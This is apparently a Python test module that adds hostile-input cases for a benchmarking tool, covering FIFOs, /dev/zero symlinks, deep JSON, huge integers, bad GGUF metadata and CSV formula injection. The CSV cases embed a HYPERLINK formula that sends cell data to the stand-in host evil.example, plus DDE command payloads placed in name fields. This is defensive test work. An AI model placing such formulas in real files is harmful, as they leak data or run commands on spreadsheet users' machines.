"""Issue 34, the files / site / remote half: hostile inputs added to the corpus (tests/hostile/corpus.py
collects every ``round*.py`` module's ``CASES``)."""

from __future__ import annotations

import json
import tempfile
from pathlib import Path

from tests.hostile.corpus import (
    BASE,
    BENCH,
    GOOD_ARTIFACT,
    ROOT,
    SAMPLE,
    SITE,
    VALIDATE,
    Case,
    _mutated,
)

M = {"matrices/m.yaml": (BASE + "tests: [pp8]\n").encode()}
RUN = "runs/golden-host-55ecea05/gemma3-270m-q4-k-m/"


def _special_file_cases() -> list[Case]:
    """Item 11: FIFOs, devices and symlinks to /dev/zero are refused by type before they are opened."""
    fifo_run = (("runs/golden-host-55ecea05/fifo.json", "fifo"),)
    zero_run = ((RUN + "zero.json", "->/dev/zero"),)
    return [
        Case(
            "fifo-artifact-validate",
            {},
            VALIDATE,
            "fifo.json: is a FIFO",
            rc=1,
            lines=2,
            with_runs=True,
            specials=fifo_run,
        ),
        Case(
            "fifo-artifact-site",
            {},
            SITE,
            "fifo.json: is a FIFO",
            with_runs=True,
            specials=fifo_run,
        ),
        Case(
            "dev-zero-artifact-validate",
            {},
            VALIDATE,
            "zero.json: is a character device",
            rc=1,
            lines=2,
            with_runs=True,
            specials=zero_run,
        ),
        Case(
            "fifo-matrix",
            {},
            BENCH,
            "m.yaml: is a FIFO",
            specials=(("matrices/m.yaml", "fifo"),),
        ),
        Case(
            "dev-zero-matrix",
            {},
            BENCH,
            "m.yaml: is a character device",
            specials=(("matrices/m.yaml", "->/dev/zero"),),
        ),
        Case(
            "fifo-include",
            {
                "matrices/m.yaml": b"include: base.yaml\n"
                + BASE.encode()
                + b"tests: [pp8]\n"
            },
            BENCH,
            "base.yaml: is a FIFO",
            specials=(("matrices/base.yaml", "fifo"),),
        ),
        Case(
            "fifo-models-yaml-bench",
            M,
            BENCH,
            "models.yaml: is a FIFO",
            specials=(("models.yaml", "fifo"),),
        ),
        Case(
            "fifo-models-yaml-list",
            {},
            ["model.list"],
            "models.yaml: is a FIFO",
            specials=(("models.yaml", "fifo"),),
        ),
        Case(
            "dev-zero-models-yaml",
            M,
            BENCH,
            "models.yaml: is a character device",
            specials=(("models.yaml", "->/dev/zero"),),
        ),
        Case(
            "fifo-hosts-yaml",
            M,
            ["bench", "--host", "h", "--matrix", "m"],
            "hosts.yaml: is a FIFO",
            specials=(("hosts.yaml", "fifo"),),
        ),
    ]


FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
# a cell that a spreadsheet runs: =, +, @, or - followed by something other than a number
FORMULA_CELL = (r'(?m)(^|,)"?[=+@]', r'(?m)(^|,)"?-[^\d.,"\n]')


def _csv_cases() -> list[Case]:
    """Item 12: names that are spreadsheet formulas never start a cell of the site's CSV downloads."""
    names = {
        GOOD_ARTIFACT: _mutated(
            lambda d: (
                d["model"].update(name=FORMULA),
                d["build"].update(backend_version="@SUM(1+1)*cmd|' /C calc'!A0"),
                d["host"].update(name="-2+3+cmd|' /C calc'!A0"),
            )
        )
    }
    return [
        Case(
            "site-formula-in-names",
            names,
            SITE,
            "",
            rc=0,
            lines=0,
            with_runs=True,
            absent_csv=FORMULA_CELL,
        )
    ]


def _future_cases() -> list[Case]:
    """Item 14: a run stamped 2099 (a clock ahead) is an invalid artifact, never the newest run."""

    def ahead(d: dict) -> None:
        d.update(
            created="2099-01-01T00:00:00+00:00",
            id=d["id"][:-8] + "ahead" + d["id"][-3:],
        )
        d["summary"]["tokens_per_second"]["mean"] *= 10

    files = {RUN + "pp64--2ed2e379a91d1880-20990101T000000Z.json": _mutated(ahead)}
    line = (
        "20990101T000000Z.json: created: '2099-01-01T00:00:00+00:00' is 72 years after"
    )
    return [
        Case(
            "validate-run-from-2099",
            files,
            VALIDATE,
            line,
            rc=1,
            lines=2,
            with_runs=True,
        ),
        Case("site-run-from-2099", files, SITE, line, with_runs=True),
    ]


def _bench_json(**change) -> bytes:
    """The committed llama-bench sample with the first record's fields changed (raw JSON text)."""
    recs = json.loads(SAMPLE.read_text())
    recs[0].update(change)
    return json.dumps(recs, indent=1).encode()


def _import(name: str) -> list[str]:
    return [
        "import.llama-bench",
        "{data}/" + name,
        "--host-name",
        "bench-box",
        "--model",
        "{model}",
    ]


def _import_cases() -> list[Case]:
    """Item 15: import.llama-bench on deep JSON, absurd integers, avg_ns that is not its samples' mean."""
    huge = _bench_json(avg_ns=0).replace(b'"avg_ns": 0', b'"avg_ns": 1' + b"0" * 400, 1)
    digits = _bench_json(n_gen=0).replace(b'"n_gen": 0', b'"n_gen": 1' + b"0" * 5000, 1)
    return [
        Case(
            "import-100000-deep-json",
            {"lb.json": b"[" * 100_000 + b"]" * 100_000},
            _import("lb.json"),
            "lb.json: invalid JSON: nested too deeply",
        ),
        Case(
            "import-avg-ns-10-to-the-400",
            {"lb.json": huge},
            _import("lb.json"),
            "avg_ns: Input should be less than or equal to 18446744073709551615",
        ),
        Case(
            "import-avg-ns-not-the-samples-mean",
            {"lb.json": _bench_json(avg_ns=4 * 436147737)},
            _import("lb.json"),
            "avg_ns 1744590948 is not the mean of samples_ns (436147738)",
        ),
        Case(
            "import-5000-digit-integer",
            {"lb.json": digits},
            _import("lb.json"),
            "lb.json: invalid JSON:",
        ),
        Case(
            "import-fifo",
            {},
            _import("lb.json"),
            "lb.json: is a FIFO",
            specials=(("lb.json", "fifo"),),
        ),
        Case(
            "import-dev-zero",
            {},
            _import("lb.json"),
            "lb.json: is a character device",
            specials=(("lb.json", "->/dev/zero"),),
        ),
    ]


def tiny_gguf(block_count=2, head_count_kv=4, **extra) -> bytes:
    """A GGUF of metadata alone (about 500 bytes): a llama header claiming what the caller says."""
    import gguf

    with tempfile.TemporaryDirectory() as td:
        path = Path(td) / "m.gguf"
        w = gguf.GGUFWriter(str(path), "llama")
        if "context_length" not in extra:
            w.add_context_length(128)
        w.add_embedding_length(64)
        if isinstance(block_count, str):
            w.add_string("llama.block_count", block_count)
        elif isinstance(block_count, list):
            w.add_array("llama.block_count", block_count)
        else:
            w.add_uint32("llama.block_count", block_count)
        w.add_head_count(4)
        w.add_int32("llama.attention.head_count_kv", head_count_kv)
        w.add_feed_forward_length(128)
        w.add_layer_norm_rms_eps(1e-5)
        for k, v in extra.items():
            w.add_int64(f"llama.{k}", v)
        w.add_tokenizer_model("llama")
        w.add_token_list(["a", "b"])
        w.write_header_to_file()
        w.write_kv_data_to_file()
        w.write_tensors_to_file()
        w.close()
        return path.read_bytes()


def _plan(name: str) -> list[str]:
    return ["plan.memory", "--model", "{data}/" + name, "--host-ram-gib", "16"]


def _plan_cases() -> list[Case]:
    """Item 10: plan.memory on hostile GGUF metadata: bounded cost, type checks, negative counts refused."""
    return [
        Case(
            "plan-gguf-10-to-the-9-layers",
            {"big.gguf": tiny_gguf(block_count=10**9)},
            _plan("big.gguf"),
            "big.gguf: block_count: the GGUF's llama.block_count is 1000000000, more than the 4096",
        ),
        Case(
            "plan-gguf-block-count-string",
            {"s.gguf": tiny_gguf(block_count="32")},
            _plan("s.gguf"),
            "llama.block_count is '32' (a str), not an integer",
        ),
        Case(
            "plan-gguf-block-count-array",
            {"a.gguf": tiny_gguf(block_count=[1, 2])},
            _plan("a.gguf"),
            "llama.block_count is [1, 2] (a list), not an integer",
        ),
        Case(
            "plan-gguf-negative-kv-heads",
            {"n.gguf": tiny_gguf(head_count_kv=-16)},
            _plan("n.gguf"),
            "llama.attention.head_count_kv is -16, a negative count",
        ),
        Case(
            "plan-gguf-huge-context",
            {"c.gguf": tiny_gguf(context_length=2**62)},
            _plan("c.gguf"),
            "llama.context_length",
        ),
        Case(
            "plan-gguf-fifo",
            {},
            _plan("f.gguf"),
            "f.gguf: is a FIFO",
            specials=(("f.gguf", "fifo"),),
        ),
        Case(
            "plan-gguf-dev-zero",
            {},
            _plan("z.gguf"),
            "z.gguf: is a character device",
            specials=(("z.gguf", "->/dev/zero"),),
        ),
        Case(
            "plan-gguf-metadata-only-works",
            {
                "ok.gguf": tiny_gguf(),
                "memory_planner.yaml": (
                    ROOT / "data" / "memory_planner.yaml"
                ).read_bytes(),
            },
            _plan("ok.gguf"),
            "",
            rc=0,
            lines=0,
        ),
    ]


TG = RUN + "tg16--40fd4754f2e2ec5c-20261126T023404Z.json"


def _value_cases() -> list[Case]:
    """Item 2: no page computation proportional to a reported value. A rate run claiming 10^9
    generated tokens (what import.llama-bench accepts with n_gen 10^9) made the roofline build a list
    of 10^9 depths: MemoryError. The site now builds within the corpus's memory bound."""

    def billion(d: dict) -> None:
        d["test"]["n_gen"] = 10**9
        d["test"]["n_depth"] = 10**9

    def layers(d: dict) -> None:
        d["model"]["gguf"]["block_count"] = 10**9

    return [
        Case(
            "site-gguf-of-10-to-the-9-layers",
            {TG: _mutated(layers, TG)},
            SITE,
            "model.gguf.block_count: 1000",  # the run schema bounds it (an earlier round): one line
            with_runs=True,
        ),
        Case(
            "site-rate-of-10-to-the-9-tokens",
            {TG: _mutated(billion, TG)},
            SITE,
            "",
            rc=0,
            lines=0,
            with_runs=True,
        ),
    ]


def _cases() -> list[Case]:
    return (
        _value_cases()
        + _special_file_cases()
        + _csv_cases()
        + _future_cases()
        + _import_cases()
        + _plan_cases()
    )


CASES = _cases()
